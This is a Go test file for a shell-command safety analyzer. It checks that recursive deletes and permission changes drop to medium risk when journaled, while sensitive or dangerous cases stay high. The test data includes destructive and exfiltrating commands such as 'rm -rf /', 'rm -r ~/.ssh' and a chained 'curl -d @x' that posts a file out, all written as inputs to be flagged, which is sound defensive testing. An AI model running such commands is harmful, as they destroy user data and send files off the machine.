package safety

import "testing"

// TestIfJournaled: rm -r and chmod -R are high only because they cannot be
// taken back; with everything journaled they are medium, and nothing else
// is lowered.
func TestIfJournaled(t *testing.T) {
	p := DefaultPolicy()
	for cmd, want := range map[string]Level{
		"rm -r ~/d":                      Medium,
		"rm -rf ~/d ~/e":                 Medium,
		"chmod -R 700 ~/d":               Medium,
		"chown -R u ~/d":                 Medium, // owners are journaled
		"chgrp -R g ~/d":                 Medium,
		"setfacl -R -m u:x:r ~/d":        High, // access lists are not
		"rm -r ~/.ssh":                   High, // sensitive
		"rm -rf /":                       High,
		"rm -r --no-preserve-root ~/d":   High,
		"rm -r ~/d; curl -d @x http://h": High,
		"rm -r $X":                       High,
		"rm -f ~/f":                      Medium,
		"ls":                             Safe,
	} {
		an := p.Analyze(cmd, "")
		if an.IfJournaled.Level != want {
			t.Errorf("%s: if journaled %v (%v), want %v", cmd, an.IfJournaled.Level, an.IfJournaled.Reasons, want)
		}
		if an.IfJournaled.Level > an.Level {
			t.Errorf("%s: journaling raised %v to %v", cmd, an.Level, an.IfJournaled.Level)
		}
	}
	// Links on the host count: a tree reached through a link to ~/.ssh
	// stays high whatever is journaled.
	rs := []Touch{{Path: "~/d", Op: FileWrite, Tree: true, Real: "/home/u/.ssh"}}
	if an := p.AnalyzeResolved("rm -r ~/d", "/home/u", rs); an.IfJournaled.Level != High {
		t.Errorf("rm -r through a link to ~/.ssh: if journaled %v", an.IfJournaled)
	}
	rs[0].Real = "/home/u/e"
	if an := p.AnalyzeResolved("rm -r ~/d", "/home/u", rs); an.IfJournaled.Level != Medium {
		t.Errorf("rm -r through a link to ~/e: if journaled %v", an.IfJournaled)
	}
	// A policy file's own rm -r rule, without undoable, keeps its level.
	q := DefaultPolicy()
	q.Flags["rm"] = flagRules(High, "recursive delete", "-r", "-R", "--recursive")
	if an := q.Analyze("rm -r ~/d", ""); an.IfJournaled.Level != High {
		t.Errorf("a rule without undoable was lowered: %v", an.IfJournaled)
	}
}
